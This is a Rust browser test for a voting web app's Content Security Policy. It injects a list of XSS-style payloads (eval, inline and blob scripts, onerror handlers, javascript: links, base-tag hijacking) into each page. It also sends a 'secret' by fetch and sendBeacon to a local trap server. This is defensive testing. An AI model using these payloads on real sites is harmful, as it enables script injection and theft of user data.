//! Whoever gets a word into a page gets no further: what the policy forbids is tried in the real pages, in Chromium.

use crate::embed::Foreign;
use crate::scene::{PLAIN, Scene};
use glassurn_tests::webdriver::{Browser, DESKTOP};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

/// Somebody else's server, which answers everything with a program and counts who comes.
struct Trap {
    port: u16,
    came: Arc<AtomicUsize>,
}

impl Trap {
    fn set() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let port = listener.local_addr().expect("it is bound").port();
        let came = Arc::new(AtomicUsize::new(0));
        let counted = came.clone();
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let counted = counted.clone();
                thread::spawn(move || {
                    // A browser opens connections on which it never asks for anything.
                    if stream.read(&mut [0; 16 << 10]).is_ok_and(|read| read > 0) {
                        counted.fetch_add(1, Ordering::SeqCst);
                        let program = "(window.hacked ??= []).push('foreign script')";
                        let head = "HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\naccess-control-allow-origin: *\r\n\
                                    cross-origin-resource-policy: cross-origin\r\nconnection: close\r\ncontent-length:";
                        write!(stream, "{head} {}\r\n\r\n{program}", program.len()).ok();
                    }
                });
            }
        });
        Self { port, came }
    }
}

/// Every way in that a policy can close, each under its name; what runs says so in `window.hacked`, and what the policy
/// refuses is told in `window.told`. The attacks run from a timer: within a driver's own script the policy may not hold.
const ATTACKS: &str = "
    const [trap, done] = arguments;
    window.hacked = [];
    window.told = [];
    document.addEventListener('securitypolicyviolation',
        event => window.told.push([event.effectiveDirective, event.blockedURI, event.disposition]));
    const put = html => { const at = document.createElement('div'); document.body.append(at); at.innerHTML = html; };
    const add = (name, values, text) => {
        const element = Object.assign(document.createElement(name), values);
        if (text) element.textContent = text;
        document.body.append(element);
        return element;
    };
    const attempt = attack => { try { attack(); } catch { /* refused at once */ } };
    const attacks = [
        () => eval('window.hacked.push(\"eval\")'),
        () => new Function('window.hacked.push(\"function\")')(),
        () => setTimeout('window.hacked.push(\"timer\")'),
        () => add('script', {}, 'window.hacked.push(\"inline script\")'),
        () => add('script', { src: 'data:text/javascript,window.hacked.push(\"data script\")' }),
        () => add('script', { src: URL.createObjectURL(new Blob(['window.hacked.push(\"blob script\")'])) }),
        () => add('script', { src: trap + '/script.js' }),
        () => add('script', { type: 'module' }, 'import \"' + trap + '/module.js\"'),
        () => put('<img src=\"data:,\" onerror=\"window.hacked.push(\\'inline handler\\')\">'),
        () => put('<a id=bad href=\"javascript:window.hacked.push(\\'address\\')\">x</a>')
            ?? document.getElementById('bad').click(),
        () => put('<style>body { --hacked: inline-style }</style>'),
        () => put('<p id=styled style=\"--hacked: attribute\">x</p>'),
        () => add('link', { rel: 'stylesheet', href: trap + '/style.css' }),
        () => add('img', { src: trap + '/picture.png' }),
        () => add('iframe', { src: trap + '/frame' }),
        () => add('iframe', { srcdoc: '<script>parent.hacked.push(\"frame\")</script>' }),
        () => add('object', { data: trap + '/object' }),
        () => add('embed', { src: trap + '/embed' }),
        () => add('video', { src: trap + '/video' }),
        () => fetch(trap + '/fetch?c=secret', { mode: 'no-cors' }).catch(() => {}),
        () => navigator.sendBeacon(trap + '/beacon', 'secret'),
        () => new WebSocket(trap.replace('http', 'ws') + '/socket'),
        () => new EventSource(trap + '/events'),
        () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => hacked.push('worker'),
        () => { const form = add('form', { action: trap + '/form', method: 'post', target: '_self' }); form.submit(); },
        () => document.head.prepend(Object.assign(document.createElement('base'), { href: trap + '/' })),
    ];
    setTimeout(() => {
        attacks.forEach(attempt);
        setTimeout(() => done([window.hacked, window.told, document.baseURI,
            getComputedStyle(document.body).getPropertyValue('--hacked'),
            document.getElementById('styled') && getComputedStyle(document.getElementById('styled')).getPropertyValue('--hacked'),
        ]), 1500);
    });";

/// The parts of the policy that refuse something there.
const DIRECTIVES: [&str; 13] = [
    "script-src",
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "style-src-attr",
    "img-src",
    "frame-src",
    "object-src",
    "media-src",
    "connect-src",
    "worker-src",
    "form-action",
    "base-uri",
];

fn texts(value: &Value) -> BTreeSet<String> {
    let items = value.as_array().expect("a list").iter();
    items.map(|item| item.as_str().or_else(|| item[0].as_str()).expect("a text").to_owned()).collect()
}

#[test]
fn e_04_the_policy_stops_foreign_code_on_every_page_and_says_so() {
    let scene = Scene::open(PLAIN);
    scene.stage.account("olga", "seven quiet herons wade").expect("an account");
    let (trap, url, id) = (Trap::set(), scene.stage.url(), &scene.staged.id);
    let address = format!("http://127.0.0.1:{}", trap.port);
    let browser = Browser::open("policy", DESKTOP);
    let pages = [
        ("/".to_owned(), "main h1"),
        (format!("/e/{id}"), "main h1"),
        (format!("/e/{id}/vote#c={}", scene.code(0)), "main h1"),
        (format!("/e/{id}/check"), "main h1"),
        (format!("/e/{id}/board"), "main h1"),
        (format!("/e/{id}/audit"), "main h1"),
        (format!("/e/{id}/result"), "main h1"),
        ("/console".into(), "main h1"),
        ("/keyholder".into(), "main h1"),
        ("/poll".into(), "main h1"),
        (format!("/register/{id}"), "main h1"),
        ("/api/docs".into(), "h1"),
        ("/problems/ballot.proof_invalid".into(), "h1"),
    ];
    for (page, drawn) in &pages {
        browser.goto(&format!("{url}{page}"));
        browser.wait(
            "a page that has drawn itself",
            "return document.querySelector(arguments[0])",
            json!([drawn]),
        );
        let stand = browser.run_async(ATTACKS, json!([address]));
        assert_eq!(stand[0], json!([]), "{page}: something ran");
        assert_eq!((&stand[3], &stand[4]), (&json!(""), &json!("")), "{page}: a style came in");
        assert!(stand[2].as_str().is_some_and(|base| base.starts_with(&url)), "{page}: {}", stand[2]);
        let told = texts(&stand[1]);
        for directive in DIRECTIVES {
            assert!(told.contains(directive), "{page}: nobody is told of {directive}: {told:?}");
        }
        let told = stand[1].to_string();
        assert!(
            told.contains("\"eval\"") && told.contains("\"inline\"") && told.contains(&address),
            "{page}: {told}"
        );
        assert!(told.contains("\"enforce\"") && !told.contains("\"report\""), "{page}: {told}");
        assert_eq!(browser.run("return location.origin", json!([])), json!(url), "{page}: it is still there");
    }
    assert_eq!(trap.came.load(Ordering::SeqCst), 0, "nobody was asked");
    // The browser notes each for whoever looks into its console.
    let complaints = browser.complaints();
    assert!(complaints.iter().filter(|line| line.contains("Content Security Policy")).count() > 100);

    // The control: on another site, which has no policy, all of it comes in.
    Foreign::open().show(&browser, "<main><h1>Other</h1></main>");
    browser.see("Other");
    let without_form = ATTACKS.replace("form.submit();", "");
    let stand = browser.run_async(&without_form, json!([address]));
    let ran = texts(&stand[0]);
    for name in [
        "eval",
        "function",
        "timer",
        "inline script",
        "data script",
        "blob script",
        "foreign script",
        "inline handler",
        "address",
        "frame",
        "worker",
    ] {
        assert!(ran.contains(name), "{name}: {ran:?}");
    }
    assert_eq!((&stand[1], &stand[3], &stand[4]), (&json!([]), &json!("inline-style"), &json!("attribute")));
    assert!(stand[2].as_str().is_some_and(|base| base.starts_with(&address)));
    assert!(trap.came.load(Ordering::SeqCst) >= 8, "{}", trap.came.load(Ordering::SeqCst));
}
